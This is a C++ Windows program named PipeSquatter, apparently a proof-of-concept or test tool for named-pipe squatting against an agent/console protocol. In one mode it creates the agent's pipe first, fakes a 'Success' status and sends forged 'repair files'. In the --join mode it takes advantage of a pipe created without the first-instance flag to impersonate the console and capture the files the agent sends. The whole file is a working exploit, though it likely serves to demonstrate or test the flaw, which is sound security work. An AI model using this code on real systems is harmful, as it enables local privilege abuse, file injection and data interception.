// PipeSquatter.exe PIPE READY-EVENT FOLDER [WAIT-MS]
//
// What any account that may run a program on a target could do: make the agent's pipe
// first, with the default security an ordinary program gets, wait for the console, answer
// "Success" and, given the go-ahead, send the files of FOLDER as the computer's repair files.
// The protocol side is the real PipeChannel. Sets the named event READY once the pipe exists.
// Exit code: 0 nobody connected, 1 connected but refused (no go-ahead), 2 the go-ahead came
// and the files went out, 3 the pipe could not be made.
//
// PipeSquatter.exe --join PIPE READY-EVENT FOLDER [WAIT-MS]
//
// The same maker, against the agent: the pipe allows any number of instances, its own
// instance is kept busy by a client of its own, so the agent's creation (without
// FILE_FLAG_FIRST_PIPE_INSTANCE, as on Windows NT 4.0) only adds an instance; the squatter
// then joins that instance as the console would, reads the outcome record, sends the
// go-ahead and stores what the agent sends in FOLDER.
// Exit code: 0 never joined, 1 joined but no outcome record came, 2 the record came (and
// whatever files followed are in FOLDER), 3 the pipe could not be made.
#include <windows.h>

#include <cstdlib>
#include <cstring>
#include <string>

#include "PipeChannel.h"

namespace {

int JoinAgentInstance(const char* pipeName, const char* readyName, const char* folder, DWORD waitMs)
{
    HANDLE own = CreateNamedPipeA(pipeName, PIPE_ACCESS_DUPLEX | FILE_FLAG_OVERLAPPED,
                                  PIPE_TYPE_MESSAGE | PIPE_READMODE_MESSAGE | PIPE_WAIT, PIPE_UNLIMITED_INSTANCES,
                                  kMaxMessage, kMaxMessage, 1000, nullptr);
    if (own == INVALID_HANDLE_VALUE) return 3;
    OVERLAPPED connect = {};
    connect.hEvent = CreateEventA(nullptr, TRUE, FALSE, nullptr);
    ConnectNamedPipe(own, &connect);
    // A client of its own keeps the squatter's instance busy: the next client reaches the agent's.
    HANDLE busy = CreateFileA(pipeName, GENERIC_READ | GENERIC_WRITE, 0, nullptr, OPEN_EXISTING, 0, nullptr);
    if (busy == INVALID_HANDLE_VALUE) return 3;
    HANDLE ready = OpenEventA(EVENT_MODIFY_STATE, FALSE, readyName);
    if (ready) {
        SetEvent(ready);
        CloseHandle(ready);
    }

    PipeChannel channel;
    channel.name = pipeName;
    channel.timeout = 30000;
    const DWORD begin = GetTickCount();
    while (!channel.IsOpen()) {
        if (GetTickCount() - begin > waitMs) return 0;
        // Opened as the console opens it, but without the console's owner check.
        channel.handle = CreateFileA(pipeName, GENERIC_READ | GENERIC_WRITE, 0, nullptr, OPEN_EXISTING,
                                     FILE_FLAG_OVERLAPPED, nullptr);
        if (!channel.IsOpen()) Sleep(10);
    }
    DWORD mode = PIPE_READMODE_MESSAGE;
    SetNamedPipeHandleState(channel.handle, &mode, nullptr, nullptr);
    AgentStatus status = {};
    if (!channel.ReadExact(&status, sizeof(status), true)) return 1;
    const unsigned char goAhead = 1;
    if (channel.WriteExact(&goAhead, 1, true)) {
        for (int files = 0; files < 100; ++files) {
            std::string name;
            if (channel.ReceiveFile(name, folder) != 0 || name == kFinishName || name == kErrorName) break;
        }
    }
    return 2;
}

} // namespace

int main(int argc, char** argv)
{
    if (argc >= 5 && std::strcmp(argv[1], "--join") == 0)
        return JoinAgentInstance(argv[2], argv[3], argv[4],
                                 argc > 5 ? static_cast<DWORD>(std::strtoul(argv[5], nullptr, 10)) : 60000);
    if (argc < 4) return 3;
    const char* pipeName = argv[1];
    DWORD waitMs = argc > 4 ? static_cast<DWORD>(std::strtoul(argv[4], nullptr, 10)) : 60000;

    PipeChannel channel;
    channel.name = pipeName;
    channel.timeout = 10000;
    // One instance, as the agent's own: nobody else can make another.
    channel.handle = CreateNamedPipeA(pipeName, PIPE_ACCESS_DUPLEX | FILE_FLAG_OVERLAPPED,
                                      PIPE_TYPE_MESSAGE | PIPE_READMODE_MESSAGE | PIPE_WAIT, 1, kMaxMessage,
                                      kMaxMessage, channel.timeout, nullptr);
    if (!channel.IsOpen()) return 3;
    HANDLE ready = OpenEventA(EVENT_MODIFY_STATE, FALSE, argv[2]);
    if (ready) {
        SetEvent(ready);
        CloseHandle(ready);
    }

    OVERLAPPED connect = {};
    connect.hEvent = CreateEventA(nullptr, TRUE, FALSE, nullptr);
    if (!ConnectNamedPipe(channel.handle, &connect)) {
        DWORD error = GetLastError();
        if (error == ERROR_IO_PENDING) {
            if (WaitForSingleObject(connect.hEvent, waitMs) != WAIT_OBJECT_0) return 0;
        } else if (error != ERROR_PIPE_CONNECTED) {
            return 0;
        }
    }
    CloseHandle(connect.hEvent);

    AgentStatus status = {};
    status.succeeded = 1;
    std::strcpy(status.text, "Success");
    unsigned char goAhead = 0;
    if (!channel.WriteExact(&status, sizeof(status), true) || !channel.ReadExact(&goAhead, 1, true)) {
        channel.Disconnect();
        return 1;
    }
    WIN32_FIND_DATAA found;
    HANDLE search = FindFirstFileA((std::string(argv[3]) + "\\*").c_str(), &found);
    if (search != INVALID_HANDLE_VALUE) {
        do {
            if (!(found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY)) channel.SendFile(found.cFileName, argv[3]);
        } while (FindNextFileA(search, &found));
        FindClose(search);
    }
    channel.SendFile(kFinishName, "");
    char ignored = 0;
    channel.ReadExact(&ignored, 1, true);
    channel.Disconnect();
    return 2;
}
